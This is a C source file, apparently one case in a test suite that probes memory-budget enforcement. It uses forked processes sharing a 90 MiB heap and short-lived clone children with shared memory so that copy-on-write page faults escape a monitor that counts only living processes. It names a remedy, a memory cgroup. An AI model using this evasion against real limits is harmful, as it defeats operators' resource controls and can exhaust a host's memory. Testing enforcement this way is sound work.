// SPDX-License-Identifier: MIT
/*
 * Goal:  more memory than the budget.
 * Means: four processes that share one's pages hold 90 MiB together; each page that one of them writes to
 *        is a new one. They are written to by short-lived others, which have the same memory, and whose
 *        count of faults dies with them. Who adds up the faults of the living finds nothing new.
 */
#include "attacks/attack.h"
#include "attacks/memory-bomb/heap.h"

#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define CHILDREN 3 /* and their parent */
#define BYTES    (90UL << 20)
#define PIECE    (2UL << 20)

static volatile char *block;
static volatile size_t next;
static char stack[16384] __attribute__((aligned(16)));

static int touch(void *arg)
{
	(void)arg;
	for (size_t at = next; at < next + PIECE; at += PAGE)
		block[at] = 'y';
	_exit(0);
}

/* All of the block, by children that share its address space. */
static bool touch_all(void)
{
	for (next = 0; next < BYTES; next += PIECE) {
		pid_t pid = clone(touch, stack + sizeof(stack), CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);

		if (pid < 0 || waitpid(pid, NULL, 0) != pid)
			return false;
	}
	return true;
}

static void child(const int full[2])
{
	const struct timespec pause = { .tv_nsec = 200000000 };

	nanosleep(&pause, NULL); /* until it was looked at what is shared */
	if (!touch_all())
		_exit(1);
	close(full[0]);
	close(full[1]);
	sleep(5);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	int full[2];

	if (pipe(full))
		return failed("pipe");
	attempting(b);
	block = malloc(BYTES);
	if (!block)
		return denied("malloc");
	for (size_t at = 0; at < BYTES; at += PAGE)
		block[at] = 'x';
	for (int i = 0; i < CHILDREN; i++) {
		pid_t pid = fork();

		if (pid < 0)
			return denied("fork");
		if (pid == 0)
			child(full);
	}
	await_growth(full);
	return hold();
}

const struct attack attack = {
	.effect = "more memory than the budget, four processes together",
	.means = "shared pages, made one's own by children with the same memory, that end at once",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "look again at what is shared, from time to time; a memory cgroup",
	.refs = (const char *const[]){ "clone(2): CLONE_VM", "proc_pid_stat(5): minflt", NULL },
	.run = run,
};
